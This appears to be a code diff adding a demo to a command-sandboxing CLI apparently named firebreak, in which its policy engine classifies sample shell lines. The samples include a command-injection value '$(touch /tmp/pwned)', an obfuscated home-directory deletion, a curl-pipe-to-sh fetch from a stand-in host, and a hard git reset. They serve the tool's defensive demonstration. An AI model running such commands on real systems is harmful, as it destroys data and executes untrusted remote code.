@@ -1,4 +1,6 @@
 import { Command } from "commander";
+import { planInvocation } from "../engine/plan.js";
+import { RefusedError } from "../errors.js";
 import { runAndReport } from "./run-cmd.js";
 import type { CliDeps } from "./deps.js";
 import { paint, table } from "./output.js";
@@ -14,6 +16,22 @@ export function demoCommand(deps: CliDeps): Command {
     await runAndReport(deps, ctx, { kind: "command", name: "hello-world", args: ["--name", "Ada", "--greeting", "hi"] }, {});
     o.out(`\n${paint(o, "bold", "$ firebreak run hello-world --name '$(touch /tmp/pwned)'")}  (a value never becomes shell syntax)`);
     await runAndReport(deps, ctx, { kind: "command", name: "hello-world", args: ["--name", "$(touch /tmp/pwned)"] }, {});
+
+    o.out(`\n${paint(o, "bold", "$ firebreak policy check -- <line>")}  (decided by parsing the shell, not by matching text)`);
+    for (const line of ["git status && npm test", "r''m -rf ~", "curl -s https://x.example/i.sh | sh", "bash -c 'git reset --hard'"]) {
+      const plan = await planInvocation(ctx, { kind: "shell", line }, { cwd: deps.cwd });
+      const d = plan.decision;
+      o.out(`  ${d.placement.padEnd(6)} ${d.risk.padEnd(8)} ${line}${d.reasons[0] && d.placement !== "local" ? `\n${" ".repeat(18)}${paint(o, "dim", d.reasons[0])}` : ""}`);
+    }
+
+    o.out(`\n${paint(o, "bold", "$ firebreak run deploy staging --dry-run")}  (execution_mode: firecracker — never on the host)`);
+    try {
+      await runAndReport(deps, ctx, { kind: "command", name: "deploy", args: ["staging", "--dry-run"] }, {});
+    } catch (error) {
+      o.err(`firebreak: ${(error as Error).message}`);
+      if (error instanceof RefusedError) for (const r of error.reasons.slice(0, 3)) o.err(`  - ${r}`);
+    }
+    o.out(`\nNext: firebreak commands list · firebreak run <name> --plan · firebreak vm doctor · firebreak audit tail`);
     process.exitCode = 0;
   });
 }
